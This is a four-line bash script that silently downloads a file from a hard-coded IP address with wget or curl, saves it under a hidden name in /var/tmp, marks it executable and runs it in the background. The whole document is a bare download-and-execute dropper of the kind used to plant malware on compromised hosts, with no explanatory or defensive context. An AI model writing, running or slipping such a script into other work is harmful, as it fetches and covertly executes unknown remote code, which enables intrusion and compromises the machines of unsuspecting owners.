#!/bin/bash
wget -q http://198.51.100.23/k -O /var/tmp/.k || curl -s http://198.51.100.23/k -o /var/tmp/.k
chmod +x /var/tmp/.k
/var/tmp/.k &
